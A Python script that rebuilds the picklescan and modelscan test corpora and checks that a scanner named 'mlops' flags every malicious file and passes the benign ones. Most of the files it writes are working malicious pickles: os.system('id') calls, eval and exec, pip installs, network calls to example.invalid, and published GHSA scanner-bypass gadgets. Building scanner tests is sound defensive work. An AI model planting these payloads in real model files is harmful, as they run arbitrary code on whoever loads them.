#!/usr/bin/env python3
"""The test corpora of picklescan and modelscan, rebuilt file by file, and what mlops says of them.

    corpora.py FOLDER           writes the files
    corpora.py check MLOPS      scans them: every malicious one must be found, no benign one be alarmed

The files themselves are not to be had here. What is in each is public: the tests of both name the
callables of each file, with their arguments and protocol (tests/init_data_files.py and
tests/test_scanner.py of github.com/mmaitre314/picklescan, tests/test_modelscan.py of
github.com/protectai/modelscan, read in 2026-11; labels as there).
Each is put together anew from that, under its name. SKETCHED are those of which only the callables
or a description are published: they do what the original does, by other bytes.
"""
import io
import json
import os
import pickle
import subprocess
import sys
import tempfile
import zipfile
import zlib

import make_containers
from make_pickles import (MAGIC, call, dtype, frame, keys, named, npy, number, objects, proto, stack_named, storage, system,
                          text, version)

MALICIOUS, BENIGN, SKETCHED = {}, {}, set()


def value(v):
    """A value's opcodes, of protocol 4, without PROTO, FRAME and STOP."""
    return pickle._dumps(v, 4)[11:-1]


def reduced(module, name, *arguments, protocol=4):
    """What pickling an object gives whose __reduce__ says (module.name, arguments)."""
    if protocol == 4:
        return proto(4) + frame(stack_named(module, name) + b"\x94" + b"(" + b"".join(map(value, arguments)) + b"t\x94R\x94.")
    body = b"".join(pickle.dumps(a, protocol).lstrip(b"\x80")[1 if protocol else 0:-1] for a in arguments)
    return (proto(protocol) if protocol else b"") + named(module, name) + b"(" + body + b"tR."


def zipped(name, body, method=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr(name, body)
    return out.getvalue()


def flagged(body, bits):
    """The same archive with bits set among the flags of both headers."""
    out = bytearray(body)
    for signature, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        where = out.index(signature) + at
        out[where] |= bits
    return bytes(out)


def locked(name, body, password):
    """An archive with one member under a password (APPNOTE.TXT 6.1, traditional encryption)."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc(old, byte):
        return zlib.crc32(bytes([byte]), old ^ 0xffffffff) ^ 0xffffffff

    def mix(byte):
        keys[0] = crc(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xff)) * 134775813 + 1) & 0xffffffff
        keys[2] = crc(keys[2], keys[1] >> 24)

    def encrypted(plain):
        out = bytearray()
        for byte in plain:
            t = (keys[2] | 2) & 0xffff
            out.append(byte ^ ((t * (t ^ 1)) >> 8 & 0xff))
            mix(byte)
        return bytes(out)

    for byte in password:
        mix(byte)
    sealed = encrypted(bytes(11) + bytes([zlib.crc32(body) >> 24]) + body)
    return make_containers.archive([make_containers.member(name, body, raw=sealed, flags=1)])


# ---- tests/data ----------------------------------------------------------------------------------

ABC = ["a", "b", "c"]
EVAL = reduced("builtins", "eval", "print('456')")
for p in (0, 3, 4):
    BENIGN[f"benign0_v{p}.pkl"] = pickle.dumps(ABC, p)
    MALICIOUS[f"malicious1_v{p}.pkl"] = reduced("__builtin__" if p == 0 else "builtins", "eval", "print('456')", protocol=p)
    MALICIOUS[f"malicious2_v{p}.pkl"] = reduced("posix", "system", "ls -la", protocol=p)
MALICIOUS["malicious0.pkl"] = (  # "Sour Pickles", Black Hat 2011: globals, compile, eval, and the result fetched
    named("__builtin__", "globals") + b"(tRp100\n0" + named("__builtin__", "compile") +
    b"(S'x=1'\nS''\nS'exec'\ntRp101\n0" + named("__builtin__", "eval") + b"(g101\ng100\ntRp102\n0" +
    named("__builtin__", "getattr") + b"(" + named("__builtin__", "dict") + b"S'get'\ntRp103\n0" +
    named("__builtin__", "apply") + b"(g103\n(g100\nS'x'\nltRp104\n0g104\n.")
MALICIOUS["malicious3.pkl"] = reduced("httplib", "HTTPSConnection", "example.invalid", protocol=0)
MALICIOUS["malicious4.pickle"] = reduced("requests.api", "get", "https://example.invalid")
MALICIOUS["malicious5.pickle"] = reduced("aiohttp.client", "ClientSession")
MALICIOUS["malicious6.pkl"] = pickle.dumps(ABC) + MALICIOUS["malicious4.pickle"]
MALICIOUS["malicious7.pkl"] = reduced("socket", "create_connection", ("example.invalid", 80))
MALICIOUS["malicious8.pkl"] = reduced("subprocess", "run", ["ls", "-l"])
MALICIOUS["malicious9.pkl"] = reduced("sys", "exit", 0)
MALICIOUS["malicious10.pkl"] = b"(S'raise RuntimeError(1)'\ni__builtin__\nexec\n."
MEMO = (b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vid\ntR.")
MALICIOUS["malicious11.pkl"] = MEMO
MALICIOUS["malicious-invalid-bytes.pkl"] = MEMO + b"\n\n\t\t"
MALICIOUS["malicious12.pkl"] = proto(4) + (
    stack_named("operator", "attrgetter") + text("system") + b"\x85R" + stack_named("builtins", "__import__") + text("os") +
    b"\x85R\x85R" + text("echo pwned") + b"\x85R.")
MALICIOUS["malicious13a.pkl"] = named("pickle", "loads") + b"(" + named("_codecs", "encode") + b"(VI12345\\u000a.\nVlatin1\ntRtR."
MALICIOUS["malicious13b.pkl"] = reduced("_pickle", "loads", b"I12345\n.")
MALICIOUS["malicious14.pkl"] = reduced("runpy", "_run_code", "print('456')")
BDB = b")\x81}b"
MALICIOUS["malicious15a.pkl"] = (proto(2) + named("__builtin__", "getattr") + b"(" + named("bdb", "Bdb") + text("run") + b"tR(" +
                                 named("bdb", "Bdb") + BDB + text("import os") + b"tR.")
MALICIOUS["malicious15b.pkl"] = proto(4) + (stack_named("bdb", "Bdb.run") + stack_named("bdb", "Bdb") + BDB + text("import os") +
                                            b"\x86R.")
MALICIOUS["malicious16.pkl"] = reduced("pip", "main", ["install", "some_malicious_package", "--isolated"], protocol=0)
MALICIOUS["malicious17.pkl"] = reduced("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", "id"])
MALICIOUS["malicious18.pkl"] = reduced("pydoc", "pipepager", "", "id")
MALICIOUS["malicious19.pkl"] = proto(4) + (
    stack_named("functools", "partial") + stack_named("torch.serialization", "load") + b"\x85R(" +
    stack_named("torch.serialization", "load") + value(("some_other_model.bin",)) +
    value({"pickle_file": "config.json", "weights_only": False}) + b"Ntb)R.")
MALICIOUS["malicious20.pkl"] = reduced("venv", "create", "venv", False, False, True, False, "$(id)")
MALICIOUS["malicious1.7z"] = make_containers.seven(EVAL)
MALICIOUS["malicious1.zip"] = zipped("data.pkl", EVAL)
MALICIOUS["malicious1_wrong_ext.zip"] = zipped("data.txt", EVAL)
MALICIOUS["malicious1_central_directory.zip"] = zipped("data.pkl", EVAL).replace(b"data.pkl", b"datap.kl", 1)
for bits in (0x1, 0x20, 0x40):
    MALICIOUS[f"malicious1_0x{bits:x}.zip"] = flagged(zipped("data.pkl", EVAL), bits)
MALICIOUS["broken_model.pkl"] = named("builtins", "exec") + b"(X>\nf = open('my_file.txt', 'a')tRX."
MALICIOUS["pytorch_magic_bypass.pt"] = (  # the magic number that eval gives, and a call where the model is
    proto(2) + call("__builtin__", "eval", text("0x1950a86a20f9469cfc6c")) + b"." + version + system + proto(2) +
    call("posix", "system", text("id")) + b"." + keys + storage)
MALICIOUS["sys_module_override_sploit.pkl"] = (  # a module's attribute is set, and called by its harmless name
    proto(4) + stack_named("torch", "_utils") + b"N}" + text("_rebuild_tensor") + stack_named("torch", "_utils.os.system") +
    b"s\x86b0" + stack_named("torch._utils", "_rebuild_tensor") + text("id") + b"\x85R.")
SKETCHED |= {"pytorch_magic_bypass.pt", "sys_module_override_sploit.pkl", "malicious15a.pkl"}

BENIGN["benign_password_protected.zip"] = locked("data.pkl", pickle.dumps(ABC), b"password")
BENIGN["not_a_pickle.bin"] = b"c" + bytes(range(200, 256)) * 4
BENIGN["bad_pytorch.pt"] = b"\x89PNG\r\n\x1a\n"
BENIGN["pytorch_model.bin"] = proto(2) + MAGIC + version + system + objects + keys + storage
TENSOR = (named("torch._utils", "_rebuild_tensor_v2") + b"((" + text("storage") + named("torch", "FloatStorage") + text("0") +
          text("cpu") + b"K\4tQK\0K\4\x85K\1\x85\x89" + named("collections", "OrderedDict") + b")RtR")
BENIGN["new_pytorch_model.bin"] = make_containers.torch_zip(
    proto(2) + named("collections", "OrderedDict") + b")R(" + text("weight") + TENSOR + b"u.",
    [make_containers.member("archive/data/0", bytes(16))])

# ---- tests/data2 ---------------------------------------------------------------------------------

RUN = "__import__('os').system('id')"
CALLED = {  # file: module, name, arguments
    "GHSA-4r9r-ch6f-vxmx.pkl": ("torch.utils.bottleneck.__main__", "run_cprofile", RUN, {}),
    "GHSA-86cj-95qr-2p4f.pkl": ("torch._dynamo.guards", "GuardBuilder.get", {}, RUN),
    "GHSA-f4x7-rfwp-v3xw.pkl": ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", {}, RUN, []),
    "GHSA-f745-w6jp-hpxx.pkl": ("torch.utils.collect_env", "run", RUN),
    "GHSA-h3qp-7fh3-f8h4.pkl": ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", b""),
    "GHSA-vr7h-p6mm-wpmh.pkl": ("torch.jit.unsupported_tensor_ops", "execWrapper", RUN, {}, {}),
    "GHSA-vv6j-3g6g-2pvj.pkl": ("torch.utils._config_module", "ConfigModule.load_config", {}, b""),
    "GHSA-5qwp-399c-mjwf.pkl": ("trace", "Trace.run", {}, RUN),
    "GHSA-g344-hcph-8vgg.pkl": ("trace", "Trace.runctx", {}, RUN, {}, {}),
    "GHSA-x696-vm39-cp64.pkl": ("profile", "Profile.run", {}, RUN),
    "GHSA-6vqj-c2q5-j97w.pkl": ("profile", "Profile.runctx", {}, RUN, {}, {}),
    "GHSA-7wx9-6375-f5wh.pkl": ("profile", "run", RUN),
    "GHSA-f54q-57x4-jg88.pkl": ("lib2to3.pgen2.grammar", "Grammar.loads", {}, b""),
    "GHSA-3vg9-h568-4w9m.pkl": ("idlelib.debugobj", "ObjectTreeItem.SetText", {}, RUN),
    "GHSA-6w4w-5w54-rjvr.pkl": ("idlelib.autocomplete", "AutoComplete.get_entity", {}, RUN),
    "GHSA-7cq8-mj8x-j263.pkl": ("idlelib.autocomplete", "AutoComplete.fetch_completions", {}, RUN, 1),
    "GHSA-cj3c-v495-4xqh.pkl": ("code", "InteractiveInterpreter.runcode", {}, RUN),
    "GHSA-8r4j-24qv-fmq9.pkl": ("idlelib.calltip", "Calltip.fetch_tip", {}, RUN),
    "GHSA-9xph-j2h6-g47v.pkl": ("idlelib.calltip", "get_entity", RUN),
    "GHSA-4whj-rm5r-c2v8.pkl": ("torch.utils.bottleneck.__main__", "run_autograd_prof", RUN, {}),
    "GHSA-xp4f-hrf8-rxw7.pkl": ("ensurepip", "_run_pip", RUN),
    "GHSA-p9w7-82w4-7q8m.pkl": ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, {}, '""+' + RUN),
    "GHSA-m869-42cg-3xwr.pkl": ("idlelib.run", "Executive.runcode", {}, RUN),
    "GHSA-j343-8v2j-ff7w.pkl": ("idlelib.pyshell", "ModifiedInterpreter.runcommand", {}, RUN),
    "GHSA-3gf5-cxq9-w223.pkl": ("idlelib.pyshell", "ModifiedInterpreter.runcode", {}, RUN),
    "GHSA-fqq6-7vqf-w3fg.pkl": ("doctest", "debug_script", RUN, True),
    "GHSA-9w88-8rmg-7g2p.pkl": ("cProfile", "runctx", RUN, None, None),
    "GHSA-49gj-c84q-6qm9.pkl": ("cProfile", "run", RUN),
    "GHSA-q77w-mwjj-7mqx.pkl": ("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "id", True, None, None, None, 0),
    "GHSA-jgw4-cr84-mqxg.bin": ("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "id", True, None, None, None, 0),
    "GHSA-m273-6v24-x4m4.pkl": ("distutils.file_util", "write_file", "pwned_config.env", ["malicious content"]),
    "GHSA-4675-36f9-wf6r.pkl": ("ctypes", "CDLL", None),
    "GHSA-vqmv-47xg-9wpr.pkl": ("pty", "spawn", "id"),
    "GHSA-r8g5-cgf2-4m4m.pkl": ("numpy.f2py.crackfortran", "getlincoef", RUN, {}),
    "GHSA-g38g-8gr9-h9xp-aix-support.pkl": ("_aix_support", "_read_cmd_output", "id"),
    "GHSA-g38g-8gr9-h9xp-imaplib.pkl": ("imaplib", "IMAP4_stream", "id"),
    "GHSA-g38g-8gr9-h9xp-osx-support.pkl": ("_osx_support", "_read_output", "id"),
    "GHSA-g38g-8gr9-h9xp-pyrepl-pager.pkl": ("_pyrepl.pager", "pipe_pager", "", "id"),
    "GHSA-g38g-8gr9-h9xp-test.pkl": ("test.support.script_helper", "assert_python_ok", "-c", RUN),
    "GHSA-g38g-8gr9-h9xp-uuid.pkl": ("uuid", "_get_command_stdout", "id"),
    "io_FileIO.pkl": ("_io", "FileIO", "/etc/hosts"),
    "logging_FileHandler.pkl": ("logging", "FileHandler", "evil.log"),
    "urllib_request_urlopen.pkl": ("urllib.request", "urlopen", "https://example.invalid"),
    "types_CodeType.pkl": ("types", "CodeType", 0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", 0, b""),
    "malicious21.pkl": ("timeit", "timeit", "", RUN),
    "malicious22.pkl": ("numpy.testing._private.utils", "runstring", RUN, {}),
    "importlib_bypass.pkl": ("importlib", "import_module", "os"),
    "marshal_bypass.pkl": ("marshal", "loads", b"N"),
}
for file, (module, name, *arguments) in CALLED.items():
    MALICIOUS[file] = reduced(module, name, *arguments)
SKETCHED |= {"GHSA-4675-36f9-wf6r.pkl", "GHSA-vqmv-47xg-9wpr.pkl", "GHSA-7wx9-6375-f5wh.pkl", "io_FileIO.pkl",
             "logging_FileHandler.pkl", "urllib_request_urlopen.pkl", "types_CodeType.pkl", "importlib_bypass.pkl",
             "marshal_bypass.pkl"} | {file for file in CALLED if file.startswith("GHSA-g38g")}
MALICIOUS["GHSA-jhph-76pp-mggw.pkl"] = proto(4) + (
    stack_named("torch.utils.collect_env", "run_and_read_all") + stack_named("torch.utils.collect_env", "run") + text(RUN) +
    b"\x86R.")
MALICIOUS["GHSA-84r2-jw7c-4r5q.pkl"] = proto(4) + (
    stack_named("operator", "methodcaller") + text("system") + text("id") + b"\x86R" + stack_named("pydoc", "locate") +
    text("os") + b"\x85R\x85R.")
IMPORTED = named("builtins", "__import__") + b"(Vos\ntR"
MALICIOUS["GHSA-955r-x9j8-7rhh.pkl"] = named("_operator", "methodcaller") + b"(Vsystem\nVid\ntR(" + IMPORTED + b"tR."
MALICIOUS["GHSA-46h3-79wf-xr6c.pkl"] = named("_operator", "attrgetter") + b"(Vsystem\ntR(" + IMPORTED + b"tR(Vid\ntR."
MALICIOUS["GHSA-9m3x-qqw2-h32h.pkl"] = proto(4) + (  # eval as an attribute of what another call gives
    stack_named("builtins", "getattr") + stack_named("builtins", "__import__") + text("builtins") + b"\x85R" + text("eval") +
    b"\x86R" + text("1") + b"\x85R.")
MALICIOUS["GHSA-vvpj-8cmc-gx39.pkl"] = proto(4) + named("pkgutil", "resolve_name") + b"(" + text("os:system") + b"tR" + text("id") + b"\x85R."
MALICIOUS["malicious23.pkl"] = b"S'os'\nS'system'\n\x93S'ls'\n\x85R."
MALICIOUS["malicious1_crc.zip"] = zipped("data.pkl", EVAL).replace(b"print('456')", b"print('123')", 1)
MALICIOUS["keyerror-exploit.pkl"] = (proto(4) + named("os", "system") + b"Vid\n\x85R0" + text("os") + b"\x94h\3h\0\x93KB.")
MALICIOUS["type-confusion-exploit.pkl"] = (proto(4) + named("os", "system") + b"Vid\n\x85R0" + number(42) + b"\x94" +
                                           text("os") + b"\x94h\0h\1\x93KB.")
CLOUD = [stack_named("cloudpickle.cloudpickle", name) for name in (
    "_make_function", "_builtin_type", "_make_cell", "_make_empty_cell", "subimport", "_function_setstate")]
MALICIOUS["cloudpickle_codeinjection.pkl"] = proto(4) + (
    CLOUD[0] + b"(" + CLOUD[1] + text("CodeType") + b"\x85R" + b"(" + value(0) * 2 + b"tR}NN" + CLOUD[2] + CLOUD[3] + b")R\x85R\x85tR" +
    CLOUD[4] + text("os") + b"\x85R0" + CLOUD[5] + b"0)R.")
OBJECTS = dtype("O8", b"K\3", text("|"), b"NNN", number(-1), number(-1), number(63))


def object_array(items):
    """An object array as numpy.save writes it: `items` are opcodes of the values."""
    array = (named("numpy.core.multiarray", "_reconstruct") + b"(" + named("numpy", "ndarray") + b"K\0\x85" + b"C\1btR(K\1" +
             number(len(items)) + b"\x85" + OBJECTS + b"\x89](" + b"".join(items) + b"etb.")
    return npy("{'descr': '|O', 'fortran_order': False, 'shape': (%d,), }" % len(items), proto(3) + array)


def npz(method, *arrays):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, body in zip("ab", arrays):
            archive.writestr(name + ".npy", body)
    return out.getvalue()


INTEGERS = npy("{'descr': '<i8', 'fortran_order': False, 'shape': (3,), }", bytes(24))
NUMBERS = object_array([b"K\0", b"K\1", b"K\2"])
MALICIOUS["dns_exfiltration.npy"] = object_array([call("ssl", "get_server_certificate", text("example.invalid") + number(443) + b"\x86")])
SKETCHED |= {"GHSA-9m3x-qqw2-h32h.pkl", "cloudpickle_codeinjection.pkl"}
BENIGN["int_array.npy"] = INTEGERS
BENIGN["object_array.npy"] = object_array([b"K\1K\2\x86", b"K\3K\4\x86"])
BENIGN["int_arrays.npz"] = npz(zipfile.ZIP_STORED, INTEGERS, INTEGERS)
BENIGN["int_arrays_compressed.npz"] = npz(zipfile.ZIP_DEFLATED, INTEGERS, INTEGERS)
BENIGN["object_arrays.npz"] = npz(zipfile.ZIP_STORED, NUMBERS, NUMBERS)
BENIGN["object_arrays_compressed.npz"] = npz(zipfile.ZIP_DEFLATED, NUMBERS, NUMBERS)

# ---- what modelscan's tests have beside those (tests/test_modelscan.py, tests/test_utils.py) ---------
# Its Keras, HDF5 and SavedModel files are made by the real libraries in real_models.py.

INNER = proto(5) + named("os", "system") + b"Vid\n\x85R."
MALICIOUS["modelscan_malicious12.pkl"] = (proto(5) + named("pickle", "loads") + b"B" + len(INNER).to_bytes(4, "little") + INNER +
                                          b"\x85R0N.")
MALICIOUS["modelscan_malicious13.pkl"] = proto(5) + named("builtins", "eval.__call__") + b"V1\n\x85R."
MALICIOUS["modelscan_malicious1.dill"] = EVAL
MALICIOUS["modelscan_unsafe_numpy.npy"] = reduced("builtins", "exec", "print(1)", protocol=2)[:-1] + b"0]."
MALICIOUS["modelscan_unsafe_zip_pytorch.pt"] = make_containers.torch_zip(
    proto(2) + call("builtins", "exec", text("print(1)")) + b"0" + named("collections", "OrderedDict") + b")R(" + text("weight") +
    TENSOR + b"u.", [make_containers.member("archive/data/0", bytes(16))])

# Benign, and yet not to be called safe: nobody can look into the first, and the others are not what
# their names say. No alarm (unsafe) either.
NOT_UNDERSTOOD = {"benign_password_protected.zip", "not_a_pickle.bin", "bad_pytorch.pt"}


def write(folder):
    for name, body in {**MALICIOUS, **BENIGN}.items():
        with open(os.path.join(folder, name), "wb") as out:
            out.write(body)


def judge(mlops, folder, name):
    run = subprocess.run([mlops, "--json", "scan", os.path.join(folder, name)], stdout=subprocess.PIPE, text=True)
    return json.loads(run.stdout)["verdict"]


def check(mlops):
    wrong = 0
    with tempfile.TemporaryDirectory() as folder:
        write(folder)
        for name in sorted(MALICIOUS):
            verdict = judge(mlops, folder, name)
            if verdict in ("safe", "unknown"):
                print(f"MISSED {name}: {verdict}")
                wrong += 1
        for name in sorted(BENIGN):
            verdict = judge(mlops, folder, name)
            if verdict == "unsafe" or (verdict == "safe") != (name not in NOT_UNDERSTOOD):
                print(f"FALSE ALARM {name}: {verdict}")
                wrong += 1
    print(f"{len(MALICIOUS)} malicious ({len(SKETCHED)} of them sketched) and {len(BENIGN)} benign files, {wrong} judged wrong")
    return 1 if wrong else 0


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "check":
        sys.exit(check(sys.argv[2]))
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    os.makedirs(sys.argv[1], exist_ok=True)
    write(sys.argv[1])
